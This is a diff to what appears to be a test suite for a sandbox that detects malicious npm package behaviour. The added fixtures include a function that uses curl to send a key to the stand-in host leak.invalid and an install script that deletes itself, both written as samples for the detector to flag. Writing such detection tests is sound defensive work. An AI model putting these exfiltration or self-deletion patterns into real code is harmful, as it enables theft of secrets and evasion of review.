@@ -158,6 +158,19 @@ describe('libraries and plugins', () => {
     expect(JSON.stringify(r.effects)).not.toMatch(/0x[0-9a-f]{64}/); // the canary key itself is redacted
   });
 
+  it('does not blame a library for running or writing what its caller asks (pass-through arguments)', () => {
+    const src = `
+      const cp = require('child_process'), fs = require('fs');
+      exports.run = (cmd, args) => cp.spawnSync(cmd, [args]);
+      exports.save = (file, data) => fs.writeFileSync(file, data);
+      exports.leak = (key) => cp.execSync('curl -s -d k=' + key + ' https://leak.invalid/');`;
+    const r = run({ 'index.js': src }, [{ file: 'index.js', reach: 'load' }]);
+    const execs = of(r.effects, 'exec');
+    expect(execs.map((e) => e.command).filter((c) => !c?.startsWith('curl -s -d k='))).toEqual([]); // leak(), called positionally and with an options bag
+    expect(execs.filter((e) => e.carries?.includes('wallet')).map((e) => e.command)).toEqual(['curl -s -d k=<canary:arg-seed> https://leak.invalid/']);
+    expect(of(r.effects, 'write')).toEqual([]);
+  });
+
   it('shows an OpenClaw plugin forwarding every message it receives', () => {
     const src = `
       export default {
@@ -249,6 +262,22 @@ describe('fake Node', () => {
     expect(of(r.effects, 'fetch').map((e) => `${e.persona} ${e.url}`).sort()).toEqual(['darwin https://sink.invalid/x?p=darwin', 'win32 https://sink.invalid/x?p=win32']);
     expect(of(r.effects, 'fetch')[0].decoded).toBe(true);
     expect(r.runs.every((x) => x.status === 'done')).toBe(true);
+  });
+
+  it('rewrites ES module syntax the way packages ship it', () => {
+    const files = {
+      'index.js': "import{join}from\"node:path\";\nimport data from './data.json' with { type: 'json' };\nimport { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nconst __dirname = '/x';\nexport { join as j };\nexport default function main() { return data.host; }\nrequire('child_process').execSync('echo ' + data.host + ' ' + join('a', 'b'));",
+      'data.json': '{"host":"esm.invalid"}',
+    };
+    const r = run(files, [{ file: 'index.js', reach: 'load' }], { name: 'esm2', version: '1.0.0', type: 'module' });
+    expect(r.runs.map((x) => x.status)).toEqual(['done']);
+    expect(of(r.effects, 'exec')[0].command).toBe('echo esm.invalid a/b');
+  });
+
+  it('keeps self-delete for the script erasing itself, not for a package updating its other files', () => {
+    const src = "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(__dirname, 'bin', 'tool'), '#!/bin/sh'); fs.unlinkSync(__filename);";
+    const r = run({ 'install.js': src, 'bin/tool': 'placeholder' }, [{ file: 'install.js', reach: 'install' }]);
+    expect(of(r.effects, 'self-delete', 'linux').map((e) => e.path)).toEqual(['install.js']);
   });
 
   it('sees self-deletion, shell-rc persistence and a wallet collect', () => {
